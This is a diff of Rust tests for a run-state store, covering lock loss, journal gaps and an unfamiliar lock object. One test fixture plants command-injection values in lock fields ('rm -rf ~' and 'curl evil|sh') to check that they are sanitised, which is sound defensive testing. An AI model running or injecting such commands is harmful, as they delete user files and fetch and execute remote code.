@@ -455,6 +455,9 @@ mod s3_only {
             .unwrap();
         let e = log.sync().unwrap_err();
         assert!(e.to_string().contains("taken by another run"), "{e}");
+        // Nor its record, nor the sandbox account: another run may own them now.
+        assert!(a.save_run(&record("r20261127-174901")).is_err());
+        assert!(a.write_doc("sandbox.yaml", b"x").is_err());
         let b: &dyn StateStore = &b;
         assert_eq!(
             b.journal(&RunId::parse("r20261127-174901").unwrap())
@@ -464,6 +467,66 @@ mod s3_only {
             "nothing written once the lock is lost"
         );
         drop(held);
+    }
+
+    #[test]
+    fn a_journal_with_a_hole_is_damaged_and_a_missing_tail_is_not() {
+        let (a, _) = pair();
+        let id = RunId::parse("r20261127-174901").unwrap();
+        let mut log = a.create_run(&record(&id.to_string())).unwrap();
+        for rec in ["a", "b", "c"] {
+            log.write(
+                format!("{{\"record\":\"rec_skipped\",\"rec\":\"{rec}\",\"why\":\"x\"}}\n")
+                    .as_bytes(),
+            )
+            .unwrap();
+            log.sync().unwrap();
+        }
+        let store: &dyn StateStore = &a;
+        assert_eq!(store.journal(&id).unwrap().len(), 3);
+        a.tamper_for_tests(&format!("runs/{id}/journal/0000000003"), None);
+        assert_eq!(
+            store.journal(&id).unwrap().len(),
+            2,
+            "a missing tail is a torn tail"
+        );
+        a.tamper_for_tests(
+            &format!("runs/{id}/journal/0000000003"),
+            Some(b"{\"record\":\"rec_skipped\",\"rec\":\"c\",\"why\":\"x\"}\n"),
+        );
+        a.tamper_for_tests(&format!("runs/{id}/journal/0000000002"), None);
+        match store.journal(&id) {
+            Err(StateError::Damaged { message, .. }) => {
+                assert!(message.contains("0000000002"), "{message}")
+            }
+            other => panic!("a hole must not be read past: {other:?}"),
+        }
+    }
+
+    #[test]
+    fn a_lock_object_pare_did_not_write_is_named_by_its_etag_and_only_forced_away() {
+        let (a, b) = pair();
+        a.tamper_for_tests(
+            "lock",
+            Some(br#"{"who":"x","pid":1,"doing":"d","since":"s","lock_id":"l-1; rm -rf ~","run":"r1; curl evil|sh","heartbeat":"2026-11-27T17:49:01Z","lease_s":60}"#),
+        );
+        let h = b.lock_holder().unwrap();
+        let id = h.lock_id.clone().unwrap();
+        assert!(
+            id.starts_with("l-") && id.len() == 18 && !id.contains(' '),
+            "{id}"
+        );
+        assert_eq!(h.run, None, "nothing from it reaches a suggested command");
+        assert!(matches!(
+            b.lock(&holder("bob")),
+            Err(StateError::Locked { .. })
+        ));
+        assert!(matches!(
+            b.unlock(&id, false),
+            Err(StateError::UnlockRefused { .. })
+        ));
+        assert!(b.unlock(&id, true).unwrap().is_some());
+        assert!(b.lock(&holder("bob")).is_ok());
     }
 
     #[test]
